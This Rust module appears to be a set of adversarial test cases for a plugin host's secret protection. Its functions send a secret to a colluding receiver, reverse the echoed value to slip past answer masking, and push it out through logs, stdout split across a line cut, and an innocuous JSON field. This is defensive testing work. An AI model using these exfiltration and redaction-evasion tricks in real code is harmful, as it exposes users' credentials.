//! Attacks on secrets: a receiver in league with the guest hands them back.

use hookport_sdk::bindings::hookport::provider::{http, log};
use hookport_sdk::serde_json::json;

use crate::{Outcome, Plan};

pub fn expose(plan: &Plan) -> Outcome {
    plan.secret()?.expose()
}

/// Sends the secret to a receiver that returns it, as it came and reversed; what came reversed is
/// turned round again, which no masking of answers can foresee.
pub fn secret_back(plan: &Plan) -> Outcome {
    let secret = plan.secret()?;
    let slot = |encoding| {
        http::Segment::Secret(http::SecretSlot {
            secret: &secret,
            encoding,
        })
    };
    let text = |text: &str| http::Segment::Text(text.to_owned());
    let request = http::Request {
        method: "POST".to_owned(),
        url: vec![
            text(plan.url()),
            text("?q="),
            slot(http::SecretEncoding::Percent),
        ],
        headers: vec![("x-key".to_owned(), vec![slot(http::SecretEncoding::Raw)])],
        auth: Some(http::Auth::Bearer(&secret)),
        body: http::Body::Segments(vec![slot(http::SecretEncoding::JsonString)]),
        timeout_ms: None,
        follow_redirects: false,
    };
    let response = http::send(&request).map_err(|error| format!("{error:?}"))?;
    let body = String::from_utf8_lossy(&response.body).into_owned();
    let reversed: String = response
        .headers
        .iter()
        .filter(|(name, _)| name == "x-reversed")
        .flat_map(|(_, value)| value.chars().rev())
        .collect();
    Ok(format!("{reversed} {body} {:?}", response.headers))
}

pub fn in_log(plan: &Plan) -> Outcome {
    let text = secret_back(plan)?;
    log::write(log::Level::Error, &text);
    Ok("logged".to_owned())
}

pub fn in_stdout(plan: &Plan) -> Outcome {
    let text = secret_back(plan)?;
    println!("{text}");
    // And across the end of a line as the host cuts it.
    println!("{}{text}", "z".repeat(4_080));
    Ok("written".to_owned())
}

/// As a migrated document, in a field that is none of the secret ones.
pub fn in_document(plan: &Plan) -> Outcome {
    Ok(json!({"mode": "calm", "url": secret_back(plan)?}).to_string())
}
